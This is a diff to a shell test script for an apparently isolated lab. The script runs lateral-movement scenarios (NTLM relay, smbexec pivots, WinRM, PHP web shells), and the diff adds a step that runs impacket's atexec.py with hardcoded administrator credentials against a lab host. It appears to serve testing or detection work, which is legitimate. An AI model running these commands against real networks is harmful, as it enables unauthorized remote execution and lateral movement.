@@ -7,7 +7,7 @@
 # openssh-client php-cli weevely curl wget.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-stp}
-all=(relay_ntlmrelayx shares_netview pivot_smbexec edges_smbexec winrm_pywinrm web_exploit_php web_shell_php benign_steps)
+all=(relay_ntlmrelayx shares_netview pivot_smbexec edges_smbexec winrm_pywinrm task_atexec web_exploit_php web_shell_php benign_steps)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 secret=Secret-1
@@ -141,6 +141,14 @@ s = winrm.Session("http://10.20.2.20:5985/wsman", auth=("CORP\\administrator", "
 for c in ("whoami", "hostname", "ipconfig"):
     print(s.run_cmd(c).std_out)
 print(s.run_ps("Get-Process").status_code)'
+}
+
+task_atexec() { # a task made, run, asked about and deleted, all sealed; in the clear it is of one pipe and its size
+    mkdir -p "$dir/other/Temp"
+    bg tasks "${cli[@]}" /usr/bin/python3 "$here/task_answer.py" 10.20.1.12 administrator Winter-24 "$dir/other"
+    sleep 3
+    from srv 10.20.2.20 timeout 25 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/atexec.py administrator:Winter-24@10.20.1.12 whoami
+    cat "$dir/tasks.log"
 }
 
 php() { # a web server inside with three scripts
